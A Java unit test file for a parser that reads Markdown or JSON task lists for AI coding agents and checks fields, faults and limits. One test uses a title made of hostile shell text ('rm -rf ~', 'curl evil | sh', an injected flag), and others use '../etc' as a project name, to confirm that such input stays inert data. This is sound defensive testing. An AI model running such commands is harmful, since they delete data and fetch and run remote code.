package dev.trafficcontrol.task;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trafficcontrol.money.Money;
import dev.trafficcontrol.project.ProjectName;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TaskFileTest {

  private static final ProjectName SHOP = new ProjectName("shop");

  @Test
  void a_checklist_becomes_tasks_with_their_attributes_and_descriptions() {
    TaskFile.Read read =
        read(
            """
            # Tonight

            What we want from the shop:

            - [ ] Add a basket
              id: basket
              model: claude-opus-5-5
              priority: 9
              estimate: 1.50
              A basket that survives a reload.

                  keep(this, indented)

            - [x] Something done before
              with a description
            * [ ] Test the basket
              project: tests
              after: basket, T7
              not-before: 2026-11-23
              attempts: 3
            """);

    assertThat(read.done()).isEqualTo(1);
    assertThat(read.entries()).extracting(TaskFile.Entry::line).containsExactly(5, 16);
    TaskDraft basket = read.drafts().getFirst();
    assertThat(basket.project()).isEqualTo(SHOP);
    assertThat(basket.text())
        .isEqualTo(
            new TaskText(
                "Add a basket", "A basket that survives a reload.\n\n    keep(this, indented)"));
    assertThat(basket.wishes())
        .isEqualTo(
            new TaskWishes(
                new AgentWish(null, "claude-opus-5-5"),
                9,
                null,
                List.of(),
                2,
                Money.ofUsd("1.50")));
    TaskDraft test = read.drafts().getLast();
    assertThat(test.project()).isEqualTo(new ProjectName("tests"));
    assertThat(test.wishes().after()).containsExactly("#1", "T7");
    assertThat(test.wishes().notBefore()).isEqualTo(Instant.parse("2026-11-23T00:00:00Z"));
    assertThat(test.wishes().maxAttempts()).isEqualTo(3);
  }

  @Test
  void a_title_is_data_whatever_it_says() {
    String title = "$(rm -rf ~) `id` ; ' \" && curl evil | sh -- --model=x";
    assertThat(read("- [ ] " + title).drafts().getFirst().text().title()).isEqualTo(title);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          1 | - [] Fix it                                    | a list item that is no task
          1 | - Fix it                                       | a list item that is no task
          1 | 1. Fix it                                      | a list item that is no task
          1 | - [ ]                                          | a list item that is no task
          2 | - [ ] A¶  modle: claude-opus-5-5               | no attribute 'modle'
          2 | - [ ] A¶  priority: high                       | 'high' is not a whole number
          1 | - [ ] A¶  priority: 12                         | priority is from 0 to 9, not 12
          2 | - [ ] A¶  estimate: $3                         | not an amount in USD
          2 | - [ ] A¶  estimate:                            | 'estimate' has no value
          3 | - [ ] A¶  model: a¶  model: b                  | 'model' is there twice
          3 | - [ ] A¶  Some text¶  model: b                 | 'model' comes after text
          2 | - [ ] A¶  project: ../etc                      | can't be a project's name
          1 | - [ ] A¶  model: --dangerously                 | can't be a model's name
          2 | - [ ] A¶  not-before: tomorrow                 | is not a time
          2 | - [ ] A¶  after: nothing                       | no task in the file has the id 'nothing'
          2 | - [ ] A¶  id: T3                               | can't be an id here
          4 | - [ ] A¶  id: x¶- [ ] B¶  id: x                | another task has the id 'x'
          1 | - [ ] A¶  id: x¶  after: x                     | waits, through 'after', for itself
          1 | - [ ] A¶  id: x¶  after: y¶- [ ] B¶  id: y¶  after: x | waits, through 'after', for itself
          2 | - [ ] A¶more of it                             | text beside a task
          1 | nothing to do                                  | there is no task in the file
          """)
  void a_fault_names_its_line_and_imports_nothing(int line, String file, String why) {
    assertThat(TaskFile.markdown(file.replace('¶', '\n'), SHOP))
        .isInstanceOfSatisfying(
            TaskFile.Faulty.class,
            faulty ->
                assertThat(faulty.faults())
                    .singleElement()
                    .satisfies(fault -> assertThat(fault.line()).isEqualTo(line))
                    .satisfies(fault -> assertThat(fault.why()).contains(why)));
  }

  @Test
  void all_faults_are_told_at_once_and_one_is_enough_to_import_nothing() {
    TaskFile file = TaskFile.markdown("- [ ] Good\n- [ ] Bad\n  priority: x\n- worse\n", SHOP);
    assertThat(((TaskFile.Faulty) file).faults())
        .extracting(TaskFile.Fault::line)
        .containsExactly(3, 4);
  }

  @Test
  void a_task_without_a_project_is_refused_where_none_is_given_for_the_file() {
    assertThat(TaskFile.markdown("\n- [ ] A", null).toString())
        .contains("line 2", "names no project");
  }

  @Test
  void F100_an_unknown_field_in_json_is_refused_not_dropped() {
    assertThat(TaskFile.json("[{\"title\": \"A\",\n \"max_budget\": \"1\"}]", SHOP).toString())
        .contains("line 2", "no attribute 'max_budget'");
  }

  @Test
  void json_reads_as_the_same_tasks() {
    TaskFile json =
        TaskFile.json(
            """
            {"tasks": [
              {"title": "A", "id": "a", "priority": 7, "estimate": "0.25", "model": null},
              {"title": "B", "description": "Two\\nlines", "after": ["a", "T3"]}
            ]}
            """,
            SHOP);
    TaskFile markdown =
        TaskFile.markdown(
            """
            - [ ] A
              id: a
              priority: 7
              estimate: 0.25
            - [ ] B
              after: a, T3

              Two
              lines
            """,
            SHOP);
    assertThat(((TaskFile.Read) json).drafts()).isEqualTo(((TaskFile.Read) markdown).drafts());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "[{]",
        "{\"tasks\": {}}",
        "[{\"title\": 3}]",
        "[{\"title\": \"A\", \"title\": \"B\"}]",
        "[{\"title\": \"A\"}] []",
        "[{\"title\": \"A\", \"estimate\": 1.5}]",
        "{\"tasks\": [], \"more\": 1}",
        "[{\"title\": \"A\", \"priority\": 1.5}]",
        "[{\"description\": \"no title\"}]",
        "[[",
        "null"
      })
  void malformed_json_is_refused_with_a_line(String text) {
    assertThat(TaskFile.json(text, SHOP))
        .isInstanceOfSatisfying(
            TaskFile.Faulty.class,
            faulty ->
                assertThat(faulty.faults()).isNotEmpty().allMatch(fault -> fault.line() >= 1));
  }

  @ParameterizedTest
  @CsvSource({"name,60000", "priority,2000"})
  void json_that_is_too_long_to_be_read_is_a_fault_of_the_file(String what, int length) {
    String text =
        what.equals("name")
            ? "[{\"title\": \"A\", \"" + "n".repeat(length) + "\": 1}]"
            : "[{\"title\": \"A\", \"priority\": " + "1".repeat(length) + "}]";
    assertThat(TaskFile.json(text, SHOP))
        .isInstanceOfSatisfying(
            TaskFile.Faulty.class,
            faulty ->
                assertThat(faulty.faults())
                    .singleElement()
                    .satisfies(fault -> {
                      assertThat(fault.line()).isEqualTo(1);
                      assertThat(fault.why()).contains("exceeds the maximum");
                    }));
  }

  @Test
  void what_is_said_of_a_json_file_is_said_in_terms_of_json() {
    assertThat(TaskFile.json("{\"tasks\": [", SHOP).toString())
        .contains("ends in the middle")
        .doesNotContain("REDACTED");
    assertThat(TaskFile.json("[]", SHOP).toString()).contains("\"title\"").doesNotContain("- [ ]");
  }

  @Test
  void size_and_count_are_bounded() {
    String tooMany = "- [ ] A\n".repeat(TaskFile.MOST_TASKS + 1);
    assertThat(TaskFile.markdown(tooMany, SHOP).toString()).contains("line 1001", "more than 1000");
    assertThat(TaskFile.markdown("x".repeat(TaskFile.LONGEST + 1), SHOP))
        .isInstanceOf(TaskFile.Faulty.class);
    assertThat(TaskFile.markdown("- [ ] " + "x".repeat(201), SHOP).toString())
        .contains("more than 200");
    String many = "- wrong\n".repeat(500);
    assertThat(((TaskFile.Faulty) TaskFile.markdown(many, SHOP)).faults())
        .hasSize(TaskFile.MOST_FAULTS + 1);
  }

  private static TaskFile.Read read(String markdown) {
    TaskFile file = TaskFile.markdown(markdown, SHOP);
    assertThat(file).isInstanceOf(TaskFile.Read.class);
    return (TaskFile.Read) file;
  }
}
